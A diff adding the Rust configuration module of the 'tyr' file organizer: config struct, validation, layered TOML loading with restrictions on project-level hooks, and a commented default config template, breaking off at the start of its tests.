@@ -0,0 +1,1146 @@
+//  Copyright (C) 2026 Dawood Khan
+//  SPDX-License-Identifier: GPL-3.0-or-later
+
+// Maintainer Dawood (Nurysso) contact - nurysso [at] proton.me
+
+/*
+ * This file is responsible for loading and validating tyr.toml for
+ * tyr(https:github.com/Nurysso/tyr) project
+*/
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, HashMap};
+use std::env;
+use std::fmt;
+use std::fs;
+use std::io;
+use std::path::{Path, PathBuf};
+
+use crate::error::TyrError;
+use crate::organizer::archive::ArchiveConfig;
+use crate::organizer::buckets::BucketConfig;
+use crate::organizer::categorise::{
+    create_default_categories, CategoryConfig, FileOrganizerConfig,
+};
+use crate::organizer::classifier::ClassifierConfig;
+use crate::organizer::filename::SimilarityConfig;
+use crate::organizer::hooks::HooksConfig;
+use crate::organizer::intelligent::IntelligentConfig;
+use crate::organizer::pipeline::Grouping;
+use crate::organizer::plugin::PluginConfig;
+use crate::organizer::rename::RenameConfig;
+use crate::organizer::similar::NearDuplicateConfig;
+use crate::organizer::template;
+use crate::organizer::tokenize;
+
+/// Main configuration structure that includes all settings
+///
+/// Every key is optional; anything missing falls back to `TyrConfig::default()`.
+#[derive(Debug, Clone, PartialEq, Deserialize, Serialize)]
+#[serde(default)]
+pub struct TyrConfig {
+    pub log_file: Option<String>,
+
+    pub batch_size: usize,
+
+    pub enable_smart_grouping: bool,
+
+    pub enable_intelligent_grouping: bool,
+
+    pub skip_patterns: Vec<String>,
+
+    pub prefer_sniffed_type: bool,
+
+    pub similarity_config: SimilarityConfig,
+
+    pub intelligent_config: IntelligentConfig,
+
+    pub archive_config: ArchiveConfig,
+
+    pub bucket_config: BucketConfig,
+
+    pub rename_config: RenameConfig,
+
+    pub plugin_config: PluginConfig,
+
+    pub hooks: HooksConfig,
+
+    pub classifier_config: ClassifierConfig,
+
+    pub near_duplicate_config: NearDuplicateConfig,
+
+    // Kept last: TOML needs plain keys before any [table]
+    pub categories: BTreeMap<String, CategoryConfig>,
+}
+
+impl Default for TyrConfig {
+    fn default() -> Self {
+        let organizer = FileOrganizerConfig::default();
+
+        Self {
+            log_file: None,
+            batch_size: organizer.batch_size,
+            enable_smart_grouping: false,
+            enable_intelligent_grouping: false,
+            skip_patterns: organizer.skip_patterns,
+            prefer_sniffed_type: organizer.prefer_sniffed_type,
+            similarity_config: SimilarityConfig::default(),
+            intelligent_config: IntelligentConfig::default(),
+            archive_config: ArchiveConfig::default(),
+            bucket_config: BucketConfig::default(),
+            rename_config: RenameConfig::default(),
+            plugin_config: PluginConfig::default(),
+            hooks: HooksConfig::default(),
+            classifier_config: ClassifierConfig::default(),
+            near_duplicate_config: NearDuplicateConfig::default(),
+            categories: create_default_categories().into_iter().collect(),
+        }
+    }
+}
+
+impl TyrConfig {
+    /// Grouping step of the default pipeline, picked by the enable_* flags
+    pub fn grouping(&self) -> Grouping {
+        if self.enable_intelligent_grouping {
+            Grouping::Intelligent(self.intelligent_config.clone())
+        } else if self.enable_smart_grouping {
+            Grouping::Similarity(self.similarity_config.clone())
+        } else {
+            Grouping::None
+        }
+    }
+
+    /// Runtime config for the extension-based organizer
+    pub fn organizer_config(&self) -> FileOrganizerConfig {
+        FileOrganizerConfig {
+            categories: self
+                .categories
+                .iter()
+                .map(|(k, v)| (k.clone(), v.clone()))
+                .collect::<HashMap<_, _>>(),
+            batch_size: self.batch_size,
+            skip_patterns: self.skip_patterns.clone(),
+            prefer_sniffed_type: self.prefer_sniffed_type,
+            archives: self.archive_config.clone(),
+            plugin: self.plugin_config.clone(),
+        }
+    }
+
+    /// Checks value ranges and cross-field rules that serde cannot express
+    pub fn validate(&self) -> Vec<ConfigIssue> {
+        let mut issues = Vec::new();
+
+        if self.batch_size == 0 {
+            issues.push(ConfigIssue::error("batch_size must be greater than 0"));
+        }
+
+        let sim = &self.similarity_config;
+        let intel = &self.intelligent_config;
+
+        let deprecated = [
+            (
+                "similarity_config.levenshtein_threshold",
+                sim.levenshtein_threshold,
+            ),
+            ("similarity_config.jaccard_threshold", sim.jaccard_threshold),
+            (
+                "intelligent_config.similarity_threshold",
+                intel.similarity_threshold,
+            ),
+        ];
+        for (key, value) in deprecated {
+            if value.is_some() {
+                issues.push(ConfigIssue::warning(format!(
+                    "{} is deprecated and has no effect; remove it",
+                    key
+                )));
+            }
+        }
+
+        let unit_values = [
+            (
+                "similarity_config.levenshtein_weight",
+                sim.levenshtein_weight,
+            ),
+            ("similarity_config.jaccard_weight", sim.jaccard_weight),
+            (
+                "similarity_config.min_similarity_score",
+                sim.min_similarity_score,
+            ),
+            (
+                "intelligent_config.filename_similarity_weight",
+                intel.filename_similarity_weight,
+            ),
+            (
+                "intelligent_config.content_similarity_weight",
+                intel.content_similarity_weight,
+            ),
+            (
+                "archive_config.min_content_share",
+                self.archive_config.min_content_share,
+            ),
+        ];
+        for (key, value) in unit_values {
+            if !(0.0..=1.0).contains(&value) {
+                issues.push(ConfigIssue::error(format!(
+                    "{} must be between 0.0 and 1.0 (got {})",
+                    key, value
+                )));
+            }
+        }
+
+        let weight_sums = [
+            (
+                "similarity_config.levenshtein_weight + jaccard_weight",
+                sim.levenshtein_weight + sim.jaccard_weight,
+            ),
+            (
+                "intelligent_config.filename_similarity_weight + content_similarity_weight",
+                intel.filename_similarity_weight + intel.content_similarity_weight,
+            ),
+        ];
+        for (keys, sum) in weight_sums {
+            if (sum - 1.0).abs() > 0.001 {
+                issues.push(ConfigIssue::error(format!(
+                    "{} must add up to 1.0 (got {:.3})",
+                    keys, sum
+                )));
+            }
+        }
+
+        let languages = [
+            ("similarity_config.stop_words", &sim.stop_words),
+            ("intelligent_config.stop_words", &intel.stop_words),
+            (
+                "classifier_config.stop_words",
+                &self.classifier_config.stop_words,
+            ),
+        ];
+        for (key, list) in languages {
+            for lang in list {
+                if tokenize::stop_words_for(lang).is_none() {
+                    issues.push(ConfigIssue::warning(format!(
+                        "{}: no stop word list for language '{}'",
+                        key, lang
+                    )));
+                }
+            }
+        }
+
+        if intel.max_clusters == 0 {
+            issues.push(ConfigIssue::error(
+                "intelligent_config.max_clusters must be greater than 0",
+            ));
+        }
+        if self.enable_smart_grouping && self.enable_intelligent_grouping {
+            issues.push(ConfigIssue::warning(
+                "enable_smart_grouping and enable_intelligent_grouping are both on; intelligent grouping is used",
+            ));
+        }
+        if intel.max_iterations == 0 {
+            issues.push(ConfigIssue::error(
+                "intelligent_config.max_iterations must be greater than 0",
+            ));
+        }
+        for problem in self.bucket_config.validate() {
+            issues.push(ConfigIssue::error(format!("bucket_config.{}", problem)));
+        }
+        for problem in self.rename_config.validate() {
+            issues.push(ConfigIssue::error(format!("rename_config.{}", problem)));
+        }
+        for problem in self.plugin_config.validate() {
+            issues.push(ConfigIssue::error(format!("plugin_config.{}", problem)));
+        }
+        for problem in self.hooks.validate() {
+            issues.push(ConfigIssue::error(format!("hooks.{}", problem)));
+        }
+        for problem in self.classifier_config.validate() {
+            issues.push(ConfigIssue::error(format!("classifier_config.{}", problem)));
+        }
+        for problem in self.near_duplicate_config.validate() {
+            issues.push(ConfigIssue::error(format!(
+                "near_duplicate_config.{}",
+                problem
+            )));
+        }
+
+        // An extension can only map to one folder; later categories silently win otherwise
+        let mut owners: BTreeMap<String, Vec<&str>> = BTreeMap::new();
+        for (key, category) in &self.categories {
+            if category.extensions.is_empty() {
+                issues.push(ConfigIssue::error(format!(
+                    "categories.{}: extensions must list at least one extension",
+                    key
+                )));
+            }
+            let folder_name = category.folder_name.as_deref().unwrap_or(key);
+            if folder_name.is_empty() || !template::stays_inside(Path::new(folder_name)) {
+                issues.push(ConfigIssue::error(format!(
+                    "categories.{}.folder_name: must be a relative path inside the target folder",
+                    key
+                )));
+            }
+            if let Some(destination) = &category.destination {
+                if let Err(e) = template::validate(destination) {
+                    issues.push(ConfigIssue::error(format!(
+                        "categories.{}.destination: {}",
+                        key, e
+                    )));
+                }
+            }
+            for ext in &category.extensions {
+                if ext.starts_with('.') {
+                    issues.push(ConfigIssue::warning(format!(
+                        "categories.{}: extension '{}' should be written without the leading dot",
+                        key, ext
+                    )));
+                }
+                owners
+                    .entry(ext.trim_start_matches('.').to_lowercase())
+                    .or_default()
+                    .push(key);
+            }
+        }
+        for (ext, keys) in owners {
+            if keys.len() > 1 {
+                issues.push(ConfigIssue::warning(format!(
+                    "extension '{}' is listed in several categories: {}",
+                    ext,
+                    keys.join(", ")
+                )));
+            }
+        }
+
+        issues
+    }
+
+    /// Reads and validates a single config file, without the layering of `load`
+    ///
+    /// Unknown keys and other warnings are ignored; errors fail the load.
+    pub fn from_file(path: &Path) -> crate::Result<TyrConfig> {
+        let content = fs::read_to_string(path).map_err(|e| TyrError::io(path, e))?;
+        let (config, _) = parse(&content).map_err(|issue| TyrError::ConfigParse {
+            file: path.to_path_buf(),
+            line: issue.line,
+            message: issue.message,
+        })?;
+
+        let errors: Vec<ConfigIssue> = config
+            .validate()
+            .into_iter()
+            .filter(|issue| issue.severity == Severity::Error)
+            .map(|issue| issue.in_file(path))
+            .collect();
+        if errors.is_empty() {
+            Ok(config)
+        } else {
+            Err(TyrError::InvalidConfig(errors))
+        }
+    }
+
+    /// Makes a relative log_file absolute (relative to the config dir); "none" disables logging
+    fn resolve_log_file(&mut self, config_dir: &Path) {
+        self.log_file = match self.log_file.take() {
+            Some(log_file) if log_file != "none" && !log_file.is_empty() => {
+                let log_path = PathBuf::from(&log_file);
+                if log_path.is_relative() {
+                    Some(config_dir.join(log_path).to_string_lossy().to_string())
+                } else {
+                    Some(log_file)
+                }
+            }
+            _ => None,
+        };
+    }
+}
+
+// Validation Results
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Severity {
+    Warning,
+    Error,
+}
+
+/// A problem found while loading or validating the config
+#[derive(Debug, Clone)]
+pub struct ConfigIssue {
+    pub severity: Severity,
+    /// Config file the problem is in (None for problems of the merged config)
+    pub file: Option<PathBuf>,
+    /// 1-based line in the config file, when it can be located
+    pub line: Option<usize>,
+    pub message: String,
+}
+
+impl ConfigIssue {
+    fn error(message: impl Into<String>) -> Self {
+        Self {
+            severity: Severity::Error,
+            file: None,
+            line: None,
+            message: message.into(),
+        }
+    }
+
+    fn warning(message: impl Into<String>) -> Self {
+        Self {
+            severity: Severity::Warning,
+            file: None,
+            line: None,
+            message: message.into(),
+        }
+    }
+
+    fn in_file(mut self, file: &Path) -> Self {
+        self.file = Some(file.to_path_buf());
+        self
+    }
+}
+
+impl fmt::Display for ConfigIssue {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let label = match self.severity {
+            Severity::Warning => "warning",
+            Severity::Error => "error",
+        };
+        match (&self.file, self.line) {
+            (Some(file), Some(line)) => write!(
+                f,
+                "{} ({}:{}): {}",
+                label,
+                file.display(),
+                line,
+                self.message
+            ),
+            (Some(file), None) => write!(f, "{} ({}): {}", label, file.display(), self.message),
+            (None, Some(line)) => write!(f, "{} (line {}): {}", label, line, self.message),
+            (None, None) => write!(f, "{}: {}", label, self.message),
+        }
+    }
+}
+
+/// Parses a tyr.toml document, reporting unknown keys as warnings
+pub fn parse(content: &str) -> Result<(TyrConfig, Vec<ConfigIssue>), ConfigIssue> {
+    let mut unknown_keys = Vec::new();
+    let deserializer = toml::Deserializer::new(content);
+
+    let config: TyrConfig =
+        serde_ignored::deserialize(deserializer, |path| unknown_keys.push(path.to_string()))
+            .map_err(|e| ConfigIssue {
+                severity: Severity::Error,
+                file: None,
+                line: e.span().map(|span| line_of_offset(content, span.start)),
+                message: e.message().trim().to_string(),
+            })?;
+
+    let issues = unknown_keys
+        .into_iter()
+        .map(|key| ConfigIssue {
+            severity: Severity::Warning,
+            file: None,
+            line: find_key_line(content, &key),
+            message: format!("unknown key '{}' is ignored", key),
+        })
+        .collect();
+
+    Ok((config, issues))
+}
+
+fn line_of_offset(content: &str, offset: usize) -> usize {
+    content[..offset.min(content.len())].matches('\n').count() + 1
+}
+
+/// Finds the line defining a dotted key path such as `similarity_config.foo`
+fn find_key_line(content: &str, dotted_path: &str) -> Option<usize> {
+    let target: Vec<&str> = dotted_path.split('.').collect();
+    let mut table: Vec<String> = Vec::new();
+
+    for (i, raw_line) in content.lines().enumerate() {
+        let line = raw_line.split('#').next().unwrap_or("").trim();
+
+        if line.starts_with('[') {
+            let header = line.trim_start_matches('[').trim_end_matches(']');
+            table = split_key(header);
+            if table == target {
+                return Some(i + 1);
+            }
+            continue;
+        }
+
+        if let Some((key, _)) = line.split_once('=') {
+            let mut path = table.clone();
+            path.extend(split_key(key));
+            if path == target {
+                return Some(i + 1);
+            }
+        }
+    }
+
+    None
+}
+
+fn split_key(key: &str) -> Vec<String> {
+    key.split('.')
+        .map(|part| part.trim().trim_matches('"').trim_matches('\'').to_string())
+        .collect()
+}
+
+// Loading
+
+/// Name of the per-directory override file searched in the target dir and its ancestors
+pub const PROJECT_CONFIG_NAME: &str = ".tyr.toml";
+
+/// Environment variable that points at an alternative user config
+pub const CONFIG_ENV_VAR: &str = "TYR_CONFIG";
+
+/// The config used for this run, plus where it came from and what was wrong with it
+pub struct LoadedConfig {
+    pub config: TyrConfig,
+    /// Files that were merged, lowest precedence first
+    pub layers: Vec<PathBuf>,
+    pub issues: Vec<ConfigIssue>,
+}
+
+impl LoadedConfig {
+    pub fn has_errors(&self) -> bool {
+        self.issues.iter().any(|i| i.severity == Severity::Error)
+    }
+}
+
+/// Gets the config directory path in a cross-platform way
+pub fn get_config_dir() -> io::Result<PathBuf> {
+    let config_dir = if cfg!(target_os = "windows") {
+        // Windows: Use %APPDATA%\tyr
+        let appdata = env::var("APPDATA").map_err(|_| {
+            io::Error::new(
+                io::ErrorKind::NotFound,
+                "Could not determine APPDATA directory",
+            )
+        })?;
+        PathBuf::from(appdata).join("tyr")
+    } else {
+        // Unix/Linux/macOS: Use ~/.config/tyr
+        let home = env::var("HOME").map_err(|_| {
+            io::Error::new(
+                io::ErrorKind::NotFound,
+                "Could not determine HOME directory",
+            )
+        })?;
+        PathBuf::from(home).join(".config").join("tyr")
+    };
+
+    if !config_dir.exists() {
+        fs::create_dir_all(&config_dir)?;
+        println!("Created config directory: {}", config_dir.display());
+    }
+
+    Ok(config_dir)
+}
+
+/// Gets the config file path: Windows: %APPDATA%\tyr\tyr.toml, Unix: ~/.config/tyr/tyr.toml
+pub fn get_config_path() -> io::Result<PathBuf> {
+    let config_dir = get_config_dir()?;
+    Ok(config_dir.join("tyr.toml"))
+}
+
+/// Gets the default log file path: Windows: %APPDATA%\tyr\tyr.log, Unix: ~/.config/tyr/tyr.log
+fn get_default_log_path() -> io::Result<PathBuf> {
+    let config_dir = get_config_dir()?;
+    Ok(config_dir.join("tyr.log"))
+}
+
+/// Gets the directory undo journals are kept in: `<config dir>/journal`
+pub fn get_journal_dir() -> io::Result<PathBuf> {
+    let config_dir = get_config_dir()?;
+    Ok(config_dir.join("journal"))
+}
+
+/// Gets the file grouping corrections are learned into: `<config dir>/feedback.toml`
+pub fn get_feedback_path() -> io::Result<PathBuf> {
+    let config_dir = get_config_dir()?;
+    Ok(config_dir.join("feedback.toml"))
+}
+
+/// Gets the file `tyr train` saves its model to: `<config dir>/classifier.json`
+pub fn get_model_path() -> io::Result<PathBuf> {
+    let config_dir = get_config_dir()?;
+    Ok(config_dir.join("classifier.json"))
+}
+
+/// Settings a `.tyr.toml` may not set: they run commands or write files as whoever runs
+/// tyr in that tree, and project files are often committed by someone else
+const USER_ONLY_KEYS: [&str; 3] = ["log_file", "hooks", "plugin_config"];
+
+/// Finds `.tyr.toml` files in `dir` and its ancestors, farthest first
+pub fn find_project_configs(dir: &Path) -> Vec<PathBuf> {
+    let dir = dir.canonicalize().unwrap_or_else(|_| dir.to_path_buf());
+
+    let mut found: Vec<PathBuf> = dir
+        .ancestors()
+        .map(|d| d.join(PROJECT_CONFIG_NAME))
+        .filter(|p| p.is_file())
+        .collect();
+    found.reverse();
+    found
+}
+
+/// Load the layered configuration for a run
+///
+/// Precedence, lowest first: built-in defaults, the user config (`--config`, then
+/// `$TYR_CONFIG`, then ~/.config/tyr/tyr.toml), then every `.tyr.toml` from the filesystem
+/// root down to `target_dir`. Tables are merged key by key; other values are replaced.
+/// `.tyr.toml` files cannot set `USER_ONLY_KEYS`; doing so is an error.
+pub fn load(explicit_path: Option<&Path>, target_dir: Option<&Path>) -> LoadedConfig {
+    let mut issues = Vec::new();
+    let mut layers = Vec::new();
+    let mut project_layers = Vec::new();
+
+    let env_path = env::var_os(CONFIG_ENV_VAR)
+        .filter(|v| !v.is_empty())
+        .map(PathBuf::from);
+
+    match explicit_path.map(Path::to_path_buf).or(env_path) {
+        Some(path) if path.is_file() => layers.push(path),
+        Some(path) => issues.push(ConfigIssue::error("config file does not exist").in_file(&path)),
+        None => match get_config_path() {
+            Ok(path) => {
+                if !path.exists() {
+                    match write_default_config(&path) {
+                        Ok(()) => println!("✓ Created default config at: {}", path.display()),
+                        Err(e) => eprintln!("!  Could not create config file: {}", e),
+                    }
+                }
+                if path.is_file() {
+                    layers.push(path);
+                }
+            }
+            Err(e) => eprintln!("Warning: Could not determine config path: {}", e),
+        },
+    }
+
+    if let Some(dir) = target_dir {
+        for path in find_project_configs(dir) {
+            if !layers.contains(&path) {
+                project_layers.push(path.clone());
+                layers.push(path);
+            }
+        }
+    }
+
+    let mut merged = toml::Table::new();
+    let mut used_layers = Vec::new();
+
+    for path in layers {
+        let content = match fs::read_to_string(&path) {
+            Ok(content) => content,
+            Err(e) => {
+                issues
+                    .push(ConfigIssue::error(format!("could not read file: {}", e)).in_file(&path));
+                continue;
+            }
+        };
+
+        // Parse each layer on its own so errors and unknown keys point at the right line
+        match parse(&content) {
+            Ok((_, layer_issues)) => {
+                issues.extend(layer_issues.into_iter().map(|i| i.in_file(&path)));
+            }
+            Err(issue) => {
+                issues.push(issue.in_file(&path));
+                continue;
+            }
+        }
+
+        if let Ok(mut table) = content.parse::<toml::Table>() {
+            if project_layers.contains(&path) {
+                for key in USER_ONLY_KEYS {
+                    if table.remove(key).is_some() {
+                        issues.push(ConfigIssue {
+                            line: find_key_line(&content, key),
+                            ..ConfigIssue::error(format!(
+                                "{} is not allowed in {}, set it in your user config",
+                                key, PROJECT_CONFIG_NAME
+                            ))
+                            .in_file(&path)
+                        });
+                    }
+                }
+            }
+            merge_tables(&mut merged, table);
+            used_layers.push(path);
+        }
+    }
+
+    let mut config = match TyrConfig::deserialize(toml::Value::Table(merged)) {
+        Ok(config) => config,
+        Err(e) => {
+            issues.push(ConfigIssue::error(format!(
+                "merged config is invalid: {}",
+                e
+            )));
+            TyrConfig::default()
+        }
+    };
+    issues.extend(config.validate());
+
+    // Relative log paths are always resolved against the user config dir
+    if let Ok(config_dir) = get_config_dir() {
+        config.resolve_log_file(&config_dir);
+    }
+
+    LoadedConfig {
+        config,
+        layers: used_layers,
+        issues,
+    }
+}
+
+/// Deep-merges `overlay` into `base`: nested tables merge, everything else is replaced
+fn merge_tables(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base_table)), toml::Value::Table(overlay_table)) => {
+                merge_tables(base_table, overlay_table);
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// Writes the commented default tyr.toml
+pub fn write_default_config(path: &Path) -> io::Result<()> {
+    let log_path = get_default_log_path()?;
+    // Forward slashes keep the TOML string valid on Windows
+    let log_path_str = log_path.to_string_lossy().replace('\\', "/");
+    fs::write(path, default_config_template(&log_path_str))
+}
+
+/// The commented default config; must parse to `TyrConfig::default()` (see tests)
+fn default_config_template(log_path: &str) -> String {
+    format!(
+        r#"# Tyr File Organizer Configuration
+batch_size = 100
+
+# Running `tyr [DIRECTORY]` without a mode flag sorts files into category folders,
+# then optionally groups them again inside each category folder:
+
+# Group files with similar names inside each category folder
+# (Documents/Invoice/invoice_jan.pdf, Documents/Invoice/invoice_feb.pdf)
+enable_smart_grouping = false
+
+# Group files inside each category folder with ML clustering (TF-IDF)
+# This analyzes file content; more powerful than smart grouping but slower.
+# Takes priority when both are enabled
+enable_intelligent_grouping = false
+
+log_file = "{}"
+
+# Files to skip during organization, in .gitignore syntax:
+# "*.tmp" globs, "!keep.tmp" re-includes, "/name" only matches in the target folder,
+# "name/" only matches folders. A .tyrignore file in the target folder (or any parent)
+# adds more patterns the same way
+skip_patterns = [
+    ".DS_Store",
+    "Thumbs.db",
+    ".git",
+    ".gitignore",
+    "desktop.ini",
+    ".localized",
+    "~$*"
+]
+
+# Files without a known extension are always categorised by their content
+# (magic bytes, e.g. an extensionless PDF goes to Documents).
+# Set to true to also trust the content over a known but wrong extension
+# (a PDF named photo.jpg goes to Documents instead of Images)
+prefer_sniffed_type = false
+
+# Smart grouping configuration (used in filename similarity mode)
+[similarity_config]
+# Weight for Levenshtein distance in final score (0.0 to 1.0)
+levenshtein_weight = 0.6
+
+# Weight for Jaccard similarity in final score (0.0 to 1.0)
+# Note: levenshtein_weight + jaccard_weight must = 1.0
+jaccard_weight = 0.4
+
+# Minimum similarity score to group files together (0.0 to 1.0)
+# Higher = files must be more similar to be grouped
+# 0.65 is a good balance for most use cases
+min_similarity_score = 0.65
+
+# Ignore common words of these languages when comparing filenames
+# Supported: en, de, fr, es, it, pt, nl, ru (empty = keep every word)
+stop_words = []
+
+# Intelligent grouping configuration (ML-based clustering)
+[intelligent_config]
+# Maximum number of lines to read from text files for content analysis
+max_lines_to_read = 100
+
+# Minimum number of files required to form a cluster/group
+min_cluster_size = 2
+
+# Maximum number of clusters to create
+# Higher values = more granular grouping
+max_clusters = 20
+
+# Weight for filename similarity (0.0 to 1.0)
+# How much the filename affects grouping decisions
+filename_similarity_weight = 0.3
+
+# Weight for content similarity (0.0 to 1.0)
+# How much file content affects grouping decisions (for text files)
+# Note: filename_similarity_weight + content_similarity_weight must = 1.0
+content_similarity_weight = 0.7
+
+# Maximum iterations for K-means clustering algorithm
+max_iterations = 100
+
+# Ignore common words of these languages when building content vectors
+stop_words = []
+
+[archive_config]
+# Look inside zip/tar/tar.gz/tar.xz archives and file them with the category most of
+# their contents belong to (a zip full of PDFs goes to Documents)
+inspect_contents = false
+
+# Share of the contents (0.0 to 1.0) one category needs before it decides
+min_content_share = 0.6
+
+# Extract archives into a folder next to them and organize the extracted files
+# `tyr undo` deletes the extracted files again
+auto_extract = false
+
+# Archives whose folder next to them already holds every file they contain:
+# "keep" organizes them as usual, "trash" sends them to the desktop trash
+extracted_action = "keep"
+
+# Archives bigger than this (or unpacking to more) are not inspected or extracted
+max_size_mb = 512
+
+[bucket_config]
+# Buckets for `tyr --size`, smallest first; a file goes to the first bucket whose
+# max_mb it fits, the last bucket takes everything bigger
+size_buckets = [
+    {{ name = "Tiny", max_mb = 0.1 }},
+    {{ name = "Small", max_mb = 10.0 }},
+    {{ name = "Large", max_mb = 1024.0 }},
+    {{ name = "Huge" }},
+]
+
+# Buckets for `tyr --age`, newest first, by days since the file was last changed
+age_buckets = [
+    {{ name = "This week", max_days = 7 }},
+    {{ name = "This month", max_days = 30 }},
+    {{ name = "This year", max_days = 365 }},
+    {{ name = "Older than a year" }},
+]
+
+# Age from the last modification ("modified") or the last access ("accessed")
+age_from = "modified"
+
+[rename_config]
+# New name for `tyr --rename`, without the extension
+# Variables: {{name}} (after transforms), {{original}}, {{date}}, {{parent}}
+template = "{{date}}_{{name}}"
+
+# Applied to {{name}} in order: "strip_copy_markers" drops "(1)", " - Copy" and "Copy of ",
+# "slugify" folds accents and joins words with dashes, "lowercase" also lowercases the extension
+transforms = ["strip_copy_markers", "slugify", "lowercase"]
+
+# Where {{date}} comes from, the first source with a date wins:
+# "exif" (photo taken), "filename" (IMG-20240131-WA0001), "modified"
+date_sources = ["exif", "filename", "modified"]
+
+# chrono format for {{date}}
+date_format = "%Y-%m-%d"
+
+[plugin_config]
+# An external classifier for rules that do not fit in categories, such as routing by a
+# customer ID in the name. It is started once per run and gets one JSON line per file:
+#   {{"path": "...", "name": "ACME-1042.pdf", "extension": "pdf", "size": 48213,
+#    "builtin": {{"folder": "Documents"}}}}
+# and answers each with one line: {{"folder": "Customers/ACME"}}, {{"action": "trash"}},
+# {{"action": "keep"}}, or {{}} to leave the file to the categories
+# Empty = no plugin, e.g. command = ["python3", "/home/me/bin/route.py"]
+command = []
+
+# "before": ask about every file, the plugin's answer wins over the categories
+# "after": only ask about files no category claims (they would go to Extras)
+consult = "after"
+
+# Seconds the plugin may take to answer for one file
+timeout_secs = 10
+
+[hooks]
+# Shell commands run around every organize run that has files to move (empty = none).
+# Paths are substituted already quoted, so write {{src}}, not "{{src}}"
+# Before anything moves, with {{dir}}; if it fails, nothing is moved
+# e.g. pre_run = "syncthing cli config folders docs paused set true"
+pre_run = ""
+
+# After each file is moved or copied, with {{src}}, {{dst}} and {{dir}}
+post_move = ""
+
+# After the run, with {{dir}}, {{moved}} and {{failed}}
+# e.g. post_run = "recoll -i {{dir}}"
+post_run = ""
+
+[classifier_config]
+# `tyr train ~/Archive` learns the folders of an organized tree from the names and text
+# of their files; `tyr classify ~/Inbox` then moves new files into the predicted folders
+# Folder levels a prediction can name: with 2, Finance/Invoices/2024 counts as Finance/Invoices
+max_depth = 2
+
+# Files predicted with less confidence (0.0 to 1.0) go to review_folder instead
+min_confidence = 0.6
+
+# Folder under the trained root for files to sort by hand; never learned from
+review_folder = "tyr-review"
+
+# Lines of text files read for their content
+max_lines_to_read = 100
+
+# Languages whose stop words are ignored in names and contents, e.g. ["en", "de"]
+stop_words = []
+
+[near_duplicate_config]
+# `tyr similar ~/Documents` finds almost identical files: edited copies of text files
+# and PDFs, and re-saved or resized images (jpg, png, gif, bmp, webp)
+# Share of word runs two text files must have in common (0.0 to 1.0)
+text_similarity = 0.8
+
+# Share of the bits of their picture hashes two images must agree on (0.0 to 1.0)
+image_similarity = 0.9
+
+# Words per run compared between text files; lower finds looser matches
+shingle_size = 3
+
+# Lines of text files read
+max_lines_to_read = 2000
+
+# Images bigger than this many megabytes are skipped
+max_image_mb = 50
+
+# PDFs bigger than this many megabytes are skipped
+max_pdf_mb = 50
+
+# Define your custom categories
+# Each category has:
+#   - extensions: list of file extensions (without dot), each in one category only
+#   - folder_name: optional custom folder name (defaults to category key)
+#   - destination: optional nested path template, overrides folder_name, e.g.
+#       destination = "Media/Images/{{ext}}"
+#       destination = "Documents/{{year}}/{{month}}"
+#       destination = "Code/{{lang}}"
+#     Variables: {{ext}} {{year}} {{month}} {{day}} (modified date) {{size}} (Tiny/Small/Medium/
+#     Large/Huge) {{mime}} (sniffed type, nests as image/png) {{parent}} {{lang}}
+#   - action: "move" (default) or "trash" to send the files to the desktop trash
+#     (see `tyr trash-list` and `tyr restore`)
+
+[categories.images]
+extensions = ["jpg", "jpeg", "png", "gif", "bmp", "svg", "webp", "tiff", "ico", "heic", "avif", "raw", "cr2", "nef", "orf", "sr2"]
+folder_name = "Images"
+
+[categories.videos]
+extensions = ["mp4", "avi", "mkv", "mov", "wmv", "flv", "webm", "m4v", "3gp", "mpg", "mpeg", "vob"]
+folder_name = "Videos"
+
+[categories.audio]
+extensions = ["mp3", "wav", "flac", "aac", "ogg", "wma", "m4a", "opus", "aiff", "ape", "alac"]
+folder_name = "Audio"
+
+[categories.documents]
+extensions = ["pdf", "doc", "docx", "txt", "rtf", "odt", "pages", "tex", "md"]
+folder_name = "Documents"
+
+[categories.spreadsheets]
+extensions = ["xls", "xlsx", "csv", "ods", "numbers"]
+folder_name = "Spreadsheets"
+
+[categories.presentations]
+extensions = ["ppt", "pptx", "odp", "key"]
+folder_name = "Presentations"
+
+[categories.archives]
+# Compound extensions like "tar.gz" win over "gz" (longest match)
+extensions = ["zip", "rar", "7z", "tar", "gz", "bz2", "xz", "zst", "iso", "tar.gz", "tar.bz2", "tar.xz", "tar.zst", "tgz"]
+folder_name = "Archives"
+
+[categories.code]
+extensions = ["rs", "py", "js", "ts", "jsx", "tsx", "html", "css", "scss", "sass", "cpp", "c", "h", "hpp", "java", "go", "php", "rb", "swift", "kt", "dart", "scala", "sh", "bat", "ps1", "r", "lua", "vim"]
+folder_name = "Code"
+
+[categories.data]
+extensions = ["json", "xml", "yaml", "yml", "toml", "ini", "cfg", "conf", "sql", "db", "sqlite", "mdb"]
+folder_name = "Data"
+
+[categories.executables]
+extensions = ["exe", "msi", "app", "deb", "rpm", "dmg", "pkg", "appimage", "run", "elf"]
+folder_name = "Applications"
+
+[categories.fonts]
+extensions = ["ttf", "otf", "woff", "woff2", "eot"]
+folder_name = "Fonts"
+
+[categories.ebooks]
+extensions = ["epub", "mobi", "azw", "azw3", "cbr", "cbz"]
+folder_name = "Ebooks"
+
+[categories.3d_models]
+extensions = ["obj", "fbx", "stl", "blend", "dae", "3ds", "max", "gltf", "glb"]
+folder_name = "3D Models"
+
+[categories.design]
+extensions = ["psd", "ai", "xd", "sketch", "fig", "indd", "cdr"]
+folder_name = "Design Files"
+
+# Add your custom categories below:
+# [categories.my_custom_category]
+# extensions = ["ext1", "ext2", "ext3"]
+# folder_name = "My Custom Folder"
+
+# Throw away download leftovers:
+# [categories.junk]
+# extensions = ["crdownload", "part.tmp"]
+# action = "trash"
+
+"#,
+        log_path
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_template_matches_defaults() {
+        let (mut config, issues) = parse(&default_config_template("tyr.log")).unwrap();
+        assert!(issues.is_empty(), "{:?}", issues);
+        assert!(config.validate().is_empty());
+
+        config.log_file = None;
+        assert_eq!(config, TyrConfig::default());
+    }
+
+    #[test]
+    fn test_unknown_keys_report_line_numbers() {
